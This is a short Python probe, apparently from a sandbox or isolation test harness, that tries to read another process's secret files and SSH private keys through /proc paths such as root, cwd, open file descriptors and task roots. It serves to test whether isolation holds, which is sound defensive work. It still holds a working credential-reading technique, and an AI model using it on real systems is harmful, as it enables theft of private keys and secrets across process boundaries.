# Reaches files through other processes: their root, folder, open files and maps in /proc.
# range: plain=root world=victim
import os
from contextlib import suppress

from common import facts, finish, hit, secret

pids = {str(facts["victim"]), str(os.getppid()), "1"}
for pid in pids:
    for path in (f"/proc/{pid}/root{facts['secrets'][0]}", f"/proc/{pid}/cwd/.ssh/id_ed25519",
                 f"/proc/{pid}/cwd/../.ssh/id_ed25519", f"/proc/{pid}/fd/{facts['victim_descriptor']}",
                 f"/proc/{pid}/task/{pid}/root{facts['secrets'][0]}"):
        with suppress(OSError):
            if secret(open(path).read(200)):
                hit(path)
finish()
